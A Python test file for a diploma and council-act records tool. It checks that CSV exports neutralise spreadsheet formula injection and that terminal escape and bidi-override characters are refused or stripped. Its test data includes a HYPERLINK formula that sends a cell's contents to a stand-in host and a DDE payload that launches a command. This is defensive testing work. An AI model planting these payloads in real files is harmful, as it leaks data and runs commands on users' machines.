"""At a verifier's and an issuer's desk: a file that moves what is shown, is lost, or lies open."""

import csv
import io
import json

import click
import pytest
from click.testing import CliRunner

from beffroi.cli.records import show_audit
from beffroi.errors import InputError
from beffroi.records.actaudit import ActsAudit, AuditedAct
from beffroi.records.admission import AdmissionRequest
from beffroi.records.council import PublishedAct
from beffroi.records.definition import Definition, DefinitionError, SchemaField
from beffroi.records.listing import read_drafts, write_drafts
from beffroi.records.paperbatch import seal
from beffroi.records.paperfile import read_batch, write_batch, write_paper
from beffroi.records.scdl import read_scdl, write_scdl
from beffroi.records.showing import write_showing
from tests.records.conftest import DIPLOMA, HOME, RECTOR, SAID, draft
from tests.records.test_papers import shown
from tests.records.test_scdl import ROW

FORMULAS = (
    '=HYPERLINK("https://x.example/?"&A1;"ouvrir")',
    "@SUM(A1)",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "'=1",
    "''@",
)


@pytest.mark.parametrize("sign", ["\x1b[8m", "\x7f", "\x9b31m", "\x85", "\u2028", "\u202e", "\u200f", "\r"])
def test_no_text_and_no_schemas_name_moves_what_is_shown(sign):
    with pytest.raises(DefinitionError, match="nothing moves what is shown"):
        SchemaField("name").require(f"Alice{sign}")
    with pytest.raises(DefinitionError, match="is no schema's name"):
        Definition(f"diploma{sign}All of it holds.", (SchemaField("name"),))


def test_a_text_has_lines_and_a_schemas_name_is_one():
    SchemaField("name").require("12, rue du Bac\n\tValombre")
    with pytest.raises(DefinitionError, match="is no schema's name"):
        Definition("diploma\nAll of it holds.", (SchemaField("name"),))


def test_a_batch_is_read_by_its_own_lines(tmp_path):
    """A line separator within a value ends no line of the file: the value is told, not a broken file."""
    path = tmp_path / "a.batch"
    write_batch(path, HOME, seal(DIPLOMA, 1, RECTOR.address, 0, [draft()]))
    path.write_text(path.read_text().replace("Alice Martin", "Alice\u2028Martin"))
    with pytest.raises(DefinitionError, match="is no text"):
        read_batch(path)


@pytest.mark.parametrize(
    "change", [{"chain": "x"}, {"chain": None}, {"call": "0xzz"}, {"call": None}, {"contract": 5}, {"file": []}]
)
def test_a_request_that_is_none_is_refused_in_a_sentence(tmp_path, change):
    right = {"file": "beffroi-admission-1", "chain": 1, "contract": HOME.contract, "call": "0x" + "00" * 68}
    path = tmp_path / "request.json"
    path.write_text(json.dumps(right | change))
    with pytest.raises(InputError, match=next(iter(change))):
        AdmissionRequest.read(path)


def test_what_is_its_holders_alone_is_read_by_no_other_account_of_the_machine(tmp_path):
    batch = seal(DIPLOMA, 1, RECTOR.address, 0, [draft(values=SAID)])
    write_batch(tmp_path / "a.batch", HOME, batch)
    write_paper(tmp_path / "a.paper", HOME, batch.paper(0))
    write_showing(tmp_path / "a.shown", shown(batch.paper(0)))
    assert [path.stat().st_mode & 0o077 for path in sorted(tmp_path.iterdir())] == [0, 0, 0]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_list_that_a_strangers_badge_filled_runs_nothing_in_a_spreadsheet_and_is_read_as_it_was(tmp_path, formula):
    write_drafts(tmp_path / "in.csv", DIPLOMA, [draft(values=SAID | {"name": formula, "grade": "-3"})])
    (row,) = csv.DictReader((tmp_path / "in.csv").open(encoding="utf-8"))
    assert (row["name"], row["grade"]) == (f"'{formula}", "-3")
    (read,) = read_drafts(tmp_path / "in.csv", DIPLOMA)
    assert (read.values["name"], read.values["grade"]) == (formula, "-3")


def test_the_open_data_of_acts_runs_nothing_in_a_spreadsheet_and_is_read_as_it_was(tmp_path):
    act = ROW | {"DELIB_OBJET": "=1+cmd|' /C calc'!A0"}
    (row,) = csv.DictReader(io.StringIO(write_scdl([act])))
    assert row["DELIB_OBJET"] == f"'{act['DELIB_OBJET']}"
    (tmp_path / "acts.csv").write_text(write_scdl([act]), encoding="utf-8")
    assert read_scdl(tmp_path / "acts.csv") == [act]


def test_an_act_moves_no_terminal_where_it_is_audited():
    """Of an individual act no value is held to its type."""
    act = PublishedAct(0, {"delib_id": "2026-001\x1bP", "delib_date": "2026-01-15\u202e"}, individual=True)
    told = ActsAudit((AuditedAct(act, 0, (), ("published late\x1b[8m",)),), ("2026-001\x1b[8m is given twice",))
    shown_ = CliRunner().invoke(click.Command("audit", callback=lambda: show_audit(told)), color=True).output
    assert "given twice" in shown_
    assert [it for it in ("\x1bP", "\x1b[8m", "\u202e") if it in shown_] == []
